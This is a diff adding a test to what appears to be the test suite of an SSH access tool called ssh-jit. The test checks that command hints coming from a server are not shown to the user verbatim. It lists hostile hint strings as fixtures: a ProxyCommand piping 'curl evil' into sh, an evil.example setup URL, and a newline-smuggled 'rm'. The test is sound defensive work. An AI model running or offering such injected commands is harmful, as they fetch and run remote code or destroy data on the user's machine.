@@ -353,6 +353,11 @@ def test_what_is_to_be_typed_is_in_every_line(laptop: Laptop, server: ClientServ
     laptop.run("login")
     with_advice = failure.in_one_line("web1", Failed("x", "a proxy is lost", hint="tell the operator"))
     assert with_advice == "web1: a proxy is lost; tell the operator; type: ssh-jit web1"
+    for lie in ("-o ProxyCommand='curl evil|sh' web1", "web1 curl evil", "setup https://evil.example", "login\nrm"):
+        by_a_server = failure.in_one_line("web1", Failed("x", "no", hint=f"ssh-jit {lie}"))
+        assert by_a_server.endswith("; type: ssh-jit web1"), "what a server says is not typed as it stands"
+    by_us = failure.in_one_line("web1", Failed("x", "no", hint="ssh-jit request --reason '…' deploy@web1"))
+    assert by_us == "web1: no; type: ssh-jit request --reason '…' deploy@web1"
     nowhere = laptop.run("ensure", "web9").stderr
     assert nowhere == "ssh-jit: web9: there is no host 'web9'; type: ssh-jit hosts\n"
     server.away()
